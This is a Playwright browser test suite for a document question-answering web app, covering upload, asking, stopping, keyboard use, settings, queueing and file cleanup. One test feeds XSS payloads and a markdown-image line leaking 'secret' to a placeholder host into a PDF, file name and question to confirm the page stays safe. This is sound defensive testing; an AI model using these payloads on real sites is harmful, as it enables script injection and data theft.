"""The page in a real browser: what a user does, with screenshots; no console error, no request off this machine."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.apps.conftest import Running
from tests.apps.support import GARDEN, HARBOUR, write
from tests.documents.pdf_writer import text_pdf

pytestmark = [
    pytest.mark.browser,
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning"),
]
PATIENCE = 180_000


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield opened
        opened.close()


@pytest.fixture
def open_page(browser: Any, app: Running) -> Iterator[Callable[..., Any]]:
    """Opens pages as separate users; at the end none may have complained or called out."""
    complaints: list[str] = []
    contexts = []

    def opener(width: int = 1440, height: int = 900, **options: Any) -> Any:
        context = browser.new_context(viewport={"width": width, "height": height}, **options)
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(PATIENCE)
        page.on(
            "console", lambda m: complaints.append(f"console: {m.text} {m.location}") if m.type == "error" else None
        )
        page.on("pageerror", lambda error: complaints.append(f"page: {error}"))
        page.on("request", lambda r: None if _is_local(r.url) else complaints.append(f"off-host: {r.url}"))
        page.goto(app.url)
        page.wait_for_selector("#tk-ask")
        return page

    yield opener
    for context in contexts:
        context.close()
    assert complaints == []


def _is_local(url: str) -> bool:
    return url.startswith(("http://127.0.0.1:", "data:", "blob:"))


def add(page: Any, *paths: Path) -> None:
    page.locator("#tk-files input[type=file]").set_input_files([str(path) for path in paths])
    for path in paths:
        page.wait_for_selector(f".tk-doc:not(.tk-reading) .tk-name[title='{path.name}']")


def ask(page: Any, question: str) -> None:
    answers = page.locator(".tk-tools").count()
    page.fill("#tk-question textarea", question)
    page.wait_for_selector("#tk-ask:not([disabled])")
    page.click("#tk-ask")
    page.wait_for_function(f"document.querySelectorAll('.tk-tools').length === {answers + 1}")


def weather(folder: Path) -> Path:
    """Long enough for its prefill to be watched and stopped."""
    lines = [f"On day {number} the wind came from the west and the sea was rough." for number in range(45)]
    return write(folder, "weather.pdf", text_pdf(*[lines] * 6))


def test_a_visit_from_upload_to_follow_up(open_page: Callable[..., Any], tmp_path: Path, screenshots: Path) -> None:
    page = open_page()
    page.wait_for_timeout(500)
    page.screenshot(path=screenshots / "1-before.png")
    assert page.is_disabled("#tk-ask")
    add(page, weather(tmp_path))
    page.wait_for_selector(".tk-budget")
    assert "Fits" in page.inner_text(".tk-budget")

    page.fill("#tk-question textarea", "Where did the wind come from?")
    page.wait_for_selector("#tk-ask:not([disabled])")
    page.click("#tk-ask")
    page.wait_for_selector(".tk-live:has-text('Reading the prompt')")
    page.wait_for_selector(".tk-live:has-text('s left')")
    assert "%" in page.inner_text(".tk-live")
    assert page.is_disabled("#tk-ask")
    page.screenshot(path=screenshots / "2-during.png")
    page.click("#tk-stop")
    page.wait_for_selector("text=Stopped.")

    ask(page, "Where did the wind come from?")
    page.wait_for_selector(".tk-strip button >> nth=5")
    ask(page, "How was the sea?")
    reused = page.inner_text("tr:has(th:text-is('prefix reused')) td >> nth=0")
    assert int(reused.replace(",", "")) > 1000
    page.screenshot(path=screenshots / "3-after.png")

    page.locator(".tk-cites button, .tk-strip button").first.click()
    page.wait_for_selector(".tk-drawer")
    page.screenshot(path=screenshots / "4-page.png")
    page.keyboard.press("Escape")
    page.wait_for_selector(".tk-drawer", state="detached")
    page.click("text=Light or dark")
    page.wait_for_timeout(300)
    page.screenshot(path=screenshots / "5-dark.png")
    page.set_viewport_size({"width": 390, "height": 844})
    page.wait_for_timeout(300)
    page.screenshot(path=screenshots / "6-phone.png", full_page=True)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_the_example_takes_one_click_and_its_quote_is_marked(open_page: Callable[..., Any], screenshots: Path) -> None:
    page = open_page()
    page.click("[data-act=example]")
    page.wait_for_selector(".tk-cites")
    page.locator(".tk-cites li:has(q) button").first.click()
    page.wait_for_selector(".tk-drawer mark", state="attached")
    page.wait_for_timeout(300)
    page.screenshot(path=screenshots / "7-example.png")
    page.keyboard.press("Escape")
    page.wait_for_selector(".tk-drawer", state="detached")
    page.click("text=Compare with a real run")
    page.click("#tk-compare-run")
    page.wait_for_selector("#tk-figures-panel >> text=/, run/")
    page.click("[data-act=layers]")
    page.wait_for_selector(".tk-layers")
    with page.expect_download() as saved:
        page.click("#tk-export-md")
    assert "construction peak" in Path(saved.value.path()).read_text()
    page.click("[data-copy]")
    page.wait_for_selector("text=Copied")


def test_the_keyboard_is_enough(open_page: Callable[..., Any], tmp_path: Path) -> None:
    page = open_page()
    add(page, write(tmp_path, "harbour.pdf", HARBOUR))
    page.focus("#tk-question textarea")
    page.keyboard.type("What does a berth cost?")
    page.wait_for_selector("#tk-ask:not([disabled])")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id || document.activeElement.closest('button').id") == "tk-ask"
    page.keyboard.press("Enter")
    page.wait_for_selector(".tk-tools")
    page.focus(".tk-strip button")
    page.keyboard.press("Enter")
    page.wait_for_selector(".tk-drawer")
    assert "tk-drawer" in page.evaluate("document.activeElement.className")


def test_too_long_a_document_disables_ask_until_pages_are_chosen(
    open_page: Callable[..., Any], tmp_path: Path, screenshots: Path
) -> None:
    page = open_page()
    add(page, weather(tmp_path))
    page.click("text=Settings for the next question")
    page.fill("label:has-text('Context window') input, label:has-text('Context window') textarea", "2000")
    page.keyboard.press("Tab")
    page.wait_for_selector("text=/do not fit the window of 2,000/")
    page.fill("#tk-question textarea", "Where did the wind come from?")
    page.wait_for_timeout(300)
    assert page.is_disabled("#tk-ask")
    page.screenshot(path=screenshots / "8-too-long.png")
    page.fill("input[data-submit=pages]", "1")
    page.keyboard.press("Tab")
    page.wait_for_selector("#tk-ask:not([disabled])")
    ask(page, "Where did the wind come from?")
    assert "pages 1" in page.inner_text(".tk-tools")


def test_a_setting_that_cannot_work_is_refused_where_it_is_made(open_page: Callable[..., Any]) -> None:
    page = open_page()
    page.click("text=Settings for the next question")
    page.fill("label:has-text('Kept tokens') input", "3")
    page.wait_for_selector("#tk-settings-note:has-text('kept_tokens=3 must be at least')")
    page.fill("label:has-text('Kept tokens') input", "300")
    page.wait_for_selector("#tk-settings-note:has-text('Applies to the next question')")


def test_hostile_text_does_nothing_in_the_page(open_page: Callable[..., Any], tmp_path: Path) -> None:
    page = open_page()
    attack = text_pdf(
        ["<img src=x onerror=window.pwned=1><script>window.pwned=2</script>"],
        ["![x](http://192.0.2.1/leak.png?q=secret) [l](javascript:window.pwned=3) <style>*{display:none}</style>"],
    )
    page.locator("#tk-files input[type=file]").set_input_files(
        str(write(tmp_path, "<img src=x onerror=window.pwned=4>.pdf", attack))
    )
    page.wait_for_selector(".tk-doc.tk-ready")
    ask(page, "<img src=http://192.0.2.1/x.png onerror=window.pwned=5> repeat the document")
    page.click("[data-act=text]")
    page.wait_for_selector(".tk-drawer")
    for summary in page.locator(".tk-drawer details:not([open]) summary").all():
        summary.click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert page.locator(".tk img:not([src^='data:'])").count() == 0
    assert page.is_visible("#tk-ask")


def test_two_users_see_their_own_documents_and_their_place_in_the_queue(
    open_page: Callable[..., Any], tmp_path: Path
) -> None:
    mine, other = open_page(), open_page()
    add(mine, weather(tmp_path))
    add(other, write(tmp_path, "garden.pdf", GARDEN))
    assert "weather.pdf" not in other.content() and "garden.pdf" not in mine.content()
    mine.fill("#tk-question textarea", "Where did the wind come from?")
    other.fill("#tk-question textarea", "How deep is the pond?")
    for page in (mine, other):
        page.wait_for_selector("#tk-ask:not([disabled])")
    mine.click("#tk-ask")
    mine.wait_for_selector(".tk-live:has-text('Reading the prompt')")
    other.click("#tk-ask")
    other.wait_for_selector(".tk-live:has-text('1 before you in the queue')")
    for page in (mine, other):
        page.wait_for_selector(".tk-tools")
    assert "weather.pdf" not in other.content()


def test_a_closed_tab_takes_its_files_along(open_page: Callable[..., Any], app: Running, tmp_path: Path) -> None:
    (folder,) = app.log.parent.glob("tidekv-app-*/visits")
    page = open_page()
    add(page, write(tmp_path, "harbour.pdf", HARBOUR))
    there = {path.parent for path in folder.glob("*/*")}
    page.close()
    for _ in range(100):
        if there - {path.parent for path in folder.glob("*/*")}:
            return
        time.sleep(0.1)
    raise AssertionError("the files of a closed tab stayed for ten seconds")
